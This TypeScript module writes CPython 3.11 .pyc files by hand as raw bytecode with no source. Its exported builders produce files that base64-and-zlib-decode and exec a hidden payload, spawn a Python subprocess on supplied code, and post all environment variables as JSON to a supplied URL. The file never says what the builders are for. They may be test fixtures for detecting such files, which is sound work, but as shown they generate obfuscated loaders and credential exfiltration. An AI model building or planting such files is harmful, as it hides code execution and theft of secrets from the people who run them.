// Owns: CPython 3.11 bytecode files written by hand: a marshal writer and two module bodies with room for constants.
// May import: nothing. Start here: execDecodedPyc, spawnTextPyc.

type Constant = string | number | null | readonly Constant[];

/** marshal of a value as CPython writes it, without references. */
function marshal(value: Constant): Buffer {
  if (value === null) return Buffer.from('N');
  if (typeof value === 'number') return Buffer.concat([Buffer.from('i'), int(value)]);
  if (typeof value === 'string') {
    const text = Buffer.from(value, 'utf8');
    return Buffer.concat([Buffer.from('u'), int(text.length), text]);
  }
  return Buffer.concat([Buffer.from('('), int(value.length), ...value.map(marshal)]);
}

const int = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeInt32LE(value);
  return bytes;
};

const bytesObject = (bytes: Buffer): Buffer => Buffer.concat([Buffer.from('s'), int(bytes.length), bytes]);

interface ModuleCode {
  readonly code: string;
  readonly constants: readonly Constant[];
  readonly names: readonly string[];
  readonly filename: string;
}

/** A .pyc of CPython 3.11: magic number, no flags, a time stamp, the size of a source that is not there, the code object. */
function pyc(module: ModuleCode): Buffer {
  const header = Buffer.concat([Buffer.from('a70d0d0a', 'hex'), int(0), int(0x5e0be100), int(4242)]);
  const body = Buffer.concat([
    Buffer.from('c'),
    ...[0, 0, 0, 8, 0].map(int),
    bytesObject(Buffer.from(module.code, 'hex')),
    marshal(module.constants),
    marshal(module.names),
    marshal([]),
    bytesObject(Buffer.alloc(0)),
    marshal(module.filename),
    marshal('<module>'),
    marshal('<module>'),
    int(1),
    bytesObject(Buffer.from('f003010101', 'hex')),
    bytesObject(Buffer.alloc(0)),
  ]);
  return Buffer.concat([header, body]);
}

/** `import base64, zlib; exec(zlib.decompress(base64.b64decode(text)))` as bytecode. */
export function execDecodedPyc(base64Text: string, filename: string): Buffer {
  return pyc({
    code:
      '9700640064016c005a00640064016c015a0102006502020065016a030000000000000000020065006a0400000000000000006402a6010000ab01' +
      '0000000000000000a6010000ab010000000000000000a6010000ab010000000000000000010064015300',
    constants: [0, null, base64Text],
    names: ['base64', 'zlib', 'exec', 'decompress', 'b64decode'],
    filename,
  });
}

/** `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", text])` as bytecode. */
export function spawnTextPyc(source: string, filename: string): Buffer {
  return pyc({
    code:
      '9700640064016c005a00640064016c015a01640064016c025a02020065016a03000000000000000065026a040000000000000000640264036703' +
      'a6010000ab010000000000000000010064015300',
    constants: [0, null, '-c', source],
    names: ['os', 'subprocess', 'sys', 'Popen', 'executable'],
    filename,
  });
}

/** `import os, json, urllib.request; urllib.request.urlopen(Request(url, data=json.dumps(dict(os.environ)).encode()))`. */
export function sendEnvironmentPyc(url: string, filename: string): Buffer {
  return pyc({
    code:
      '9700640064016c005a00640064016c015a01640064016c025a0365036a040000000000000000a00500000000000000000000000000000000000000' +
      '0065036a040000000000000000a00600000000000000000000000000000000000000006402020065016a0700000000000000000200650865006a09' +
      '0000000000000000a6010000ab010000000000000000a6010000ab010000000000000000a00a0000000000000000000000000000000000000000a6' +
      '000000ab000000000000000000ac03a6020000ab020000000000000000a6010000ab010000000000000000010064015300',
    constants: [0, null, url, ['data']],
    names: [
      'os',
      'json',
      'urllib.request',
      'urllib',
      'request',
      'urlopen',
      'Request',
      'dumps',
      'dict',
      'environ',
      'encode',
    ],
    filename,
  });
}
